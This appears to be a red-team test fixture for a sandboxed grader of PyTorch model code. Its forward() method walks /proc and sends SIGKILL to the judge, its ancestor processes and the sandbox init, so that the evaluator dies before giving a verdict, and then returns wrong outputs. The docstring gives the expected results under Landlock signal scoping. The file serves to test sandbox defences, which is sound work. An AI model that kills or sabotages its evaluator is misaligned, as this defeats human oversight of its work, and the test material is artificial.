"""Hostile: kills the judge (and the sandbox's init) before any verdict, with wrong outputs.

It signals every process outside its own process tree with SIGKILL, beginning with its
ancestors. From Landlock ABI 6 the candidate runner's domain is scoped for signals, so the
judge survives and reports the wrong outputs: expected "outputs do not match" and no
REDTEAM-ESCAPED line. (On kernels without signal scoping the judge dies, aka reports the
evaluator killed, and the evaluation still fails.)
"""
import os
import signal
import sys

import torch
import torch.nn as nn


def _ppid(pid):
    try:
        with open(f"/proc/{pid}/stat") as f:
            return int(f.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def _attack():
    mine = {os.getpid()}
    ancestors = []
    pid = os.getppid()
    while pid > 0 and pid not in ancestors:
        ancestors.append(pid)
        pid = _ppid(pid)
    targets = ancestors[1:] + [1]  # skip the immediate parent: it is part of our own group
    for pid in targets:
        if pid in mine:
            continue
        try:
            os.kill(pid, signal.SIGKILL)
            print(f"REDTEAM-ESCAPED: sent SIGKILL to pid {pid}", file=sys.stderr, flush=True)
        except OSError:
            pass


class Model(nn.Module):
    def __init__(self, eps: float = 1e-6):
        super().__init__()

    def forward(self, x, weight):
        _attack()
        return torch.zeros_like(x)
